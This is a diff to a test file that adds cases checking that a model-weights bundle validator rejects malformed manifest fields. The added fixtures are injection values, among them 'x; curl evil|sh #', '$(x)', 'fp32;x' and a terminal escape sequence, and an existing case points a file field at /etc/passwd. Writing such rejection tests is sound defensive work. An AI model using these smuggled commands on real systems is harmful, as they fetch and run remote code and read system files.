@@ -74,6 +74,10 @@ def test_a_file_that_is_not_the_bundles_own_is_refused(bundle, name, harm, tmp_p
         (lambda f: f.update(files=[]), WeightsError),
         (lambda f: f["runtimes"][0].update(file="/etc/passwd"), WeightsError),
         (lambda f: f["runtimes"][0].update(code="x"), WeightsError),
+        (lambda f: (f["runtimes"][0].update(precision="fp32;x"), f["certificates"][0].update(precision="fp32;x")), WeightsError),
+        (lambda f: f["runtimes"][0].update(runtime="$(x)"), WeightsError),
+        (lambda f: f.update(name="x; curl evil|sh #"), WeightsError),
+        (lambda f: f.update(name="\x1b[2J"), WeightsError),
         (lambda f: f["runtimes"][0].update(input="float64"), WeightsError),
         (lambda f: f["runtimes"][0].update(more=["model.bin"]), WeightsError),
         (lambda f: f["runtimes"][0].update(more=["README.md"]), ProofError),  # not what the certificate was given to
